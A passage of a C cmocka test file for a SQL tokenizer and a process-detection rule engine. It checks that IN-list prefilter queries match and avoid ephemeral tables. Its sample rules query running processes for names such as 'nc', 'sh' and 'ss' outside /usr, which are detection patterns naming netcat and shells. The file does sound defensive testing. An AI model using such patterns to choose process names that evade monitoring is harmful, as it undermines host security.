	static const char *const cases[][4] = {
		{"name IN ('a', 'b', 'c')", "'a'"},
		{"name NOT IN ('a''s', \"b\", 'c')", NULL}, /* "b" is a column */
		{"uid in (0, -1, +2.5e3) AND x IN ('p','q','r','s') OR y IN (1, 2)", "0", "'p'"},
		{"(substr(name, 1, 3) IN ( -- c\n 'kwo' /* ) */, 'kso', 'kth'))", "'kwo'"},
		{"a IN ('x', 'y')", NULL},		   /* two: compared already */
		{"a IN ('x', b, 'y')", NULL},		   /* not constant */
		{"a IN ('x', 'y', 'z' || 'w')", NULL},	   /* an expression */
		{"a IN (NULL, 'y', 'z')", NULL},	   /* NULL: left alone */
		{"a IN t OR b IN ('x', 'y', 'z')", "'x'"}, /* a table, then a list */
		{"a IN ('x', 'y', 'z') AND b IN (SELECT c FROM d)", NULL}, /* a subquery */
		{"a IN ('x', 'y', 'z'", NULL},				   /* unterminated */
		{"a IN ('x', 'y', 'z') AND b = 'open", NULL},		   /* unterminated string */
		{"f(a IN (1, 2, 3), b IN (4, 5, 6)) AND c IN (7, 8, 9)", "1", "4", "7"},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *s = cases[i][0];
		size_t want = 0;
		while (want < 3 && cases[i][want + 1])
			want++;
		size_t k = de_sqltok_in_lists(s, strlen(s), in, 4);
		if (k != want)
			fail_msg("%zu lists, not %zu: %s", k, want, s);
		for (size_t j = 0; j < k; j++) {
			assert_int_equal(in[j].first_len, strlen(cases[i][j + 1]));
			assert_memory_equal(s + in[j].first_off, cases[i][j + 1], in[j].first_len);
			assert_int_equal(s[in[j].close_off], ')');
		}
	}
	/* more lists than room: all counted, the first max reported */
	const char *many = "a IN (1,2,3) OR a IN (4,5,6) OR a IN (7,8,9)";
	assert_int_equal(de_sqltok_in_lists(many, strlen(many), in, 2), 3);
	assert_memory_equal(many + in[1].first_off, "4", 1);
	assert_int_equal(de_sqltok_in_lists(NULL, 0, in, 4), 0);
}

/* Lists after IN of every kind: the same answers with the prefilter, whose
   statement tests them by comparisons (sqltok.h: no ephemeral b-tree). */
static const char *const in_shapes[][2] = {
	{"in-str", "SELECT pid, name FROM processes WHERE name IN ('nc', 'ls', 'sh', 'zz')"},
	{"in-not", "SELECT pid, name FROM processes WHERE name NOT IN ('nc', 'ls', 'sh', 'zz')"},
	{"in-num", "SELECT pid, name FROM processes WHERE pid IN (100, 105, 107, -1)"},
	{"in-uid", "SELECT pid, name FROM processes WHERE user_id IN (0, 33, 7)"},
	{"in-uid-str", "SELECT pid, name FROM processes WHERE user_id IN ('0', '33', '7')"},
	{"in-mixed", "SELECT pid, name FROM processes WHERE ppid IN ('108', 2.0, -3, 'x')"},
	{"in-null-lhs", "SELECT pid, name FROM processes WHERE NOT (nullif(name, 'ls') IN ('a', "
			"'b', 'c'))"},
	{"in-expr", "SELECT p.pid, p.name FROM processes p WHERE substr(p.name, 1, 2) IN ('xm', "
		    "'nc', 'ss') AND p.executable_path NOT LIKE '/usr/%'"},
	{"in-case", "SELECT pid, name FROM processes WHERE upper(name) IN ('SH', 'LS', 'NC')"},
	{"in-nocase", "SELECT pid, name FROM processes WHERE name COLLATE NOCASE IN ('SH', 'LS', "
		      "'NC')"},
	{"in-two", "SELECT pid, name FROM processes WHERE name IN ('sh', 'ls')"},
};
#define NIN (sizeof(in_shapes) / sizeof(in_shapes[0]))

static void test_in_lists_agree(void **state)
{
	(void)state;
	struct de_rule rules[NIN];
	struct de_rule_set set = {0};
	struct de_rule_problems pr = {0};
	struct de_error e = {0};
	sqlite3 *db;
	const char *sql;
	size_t nsql = 0;

	for (size_t i = 0; i < NIN; i++)
		rules[i] = mkrule(in_shapes[i][0], in_shapes[i][1]);
	for (size_t p = 0; p < sizeof(all_pids) / sizeof(all_pids[0]); p++)
		run_both(rules, NIN, &all_pids[p], 1, NULL, NULL);
	run_both(rules, NIN, all_pids, sizeof(all_pids) / sizeof(all_pids[0]), NULL, NULL);

	/* the builtin rules' statements, and these: no ephemeral table */
	assert_int_equal(de_rules_load_builtin(val, &set, &pr, &e), 0);
	assert_int_equal(sqlite3_open_v2(dbpath, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_exec(db,
				      "CREATE TEMP TABLE " DE_VALIDATOR_PID_TABLE
				      " (pid INTEGER PRIMARY KEY)",
				      NULL, NULL, NULL),
			 SQLITE_OK);
	for (int round = 0; round < 2; round++) {
		uint32_t quiet = P_LS;
		if (round == 0)
			run_both(set.items, set.len, &quiet, 1, NULL, NULL);
		else
			run_both(rules, NIN, &quiet, 1, NULL, NULL);
		for (size_t g = 0; (sql = de_engine_prefilter_sql(eng, g)); g++, nsql++) {
			sqlite3_stmt *st;
			char *x = sqlite3_mprintf("EXPLAIN %s", sql);
			assert_int_equal(sqlite3_prepare_v2(db, x, -1, &st, NULL), SQLITE_OK);
			while (sqlite3_step(st) == SQLITE_ROW)
				if (strcmp((const char *)sqlite3_column_text(st, 1),
					   "OpenEphemeral") == 0)
					fail_msg("an ephemeral table in %s", sql);
			sqlite3_finalize(st);
			sqlite3_free(x);
			assert_non_null(strstr(sql, ", coalesce("));
		}
	}
	assert_true(nsql >= 3);
	sqlite3_close(db);
	de_rule_set_clear(&set);
	de_rule_problems_clear(&pr);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_sqltok_shapes),
		cmocka_unit_test(test_builtin_rules_agree),
		cmocka_unit_test(test_shapes_agree),
		cmocka_unit_test(test_failure_falls_back),
		cmocka_unit_test(test_slow_falls_back),
		cmocka_unit_test(test_counts_prove_it_ran),
		cmocka_unit_test(test_sqltok_in_lists),
		cmocka_unit_test(test_in_lists_agree),
		cmocka_unit_test(test_sigma_rules_agree),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
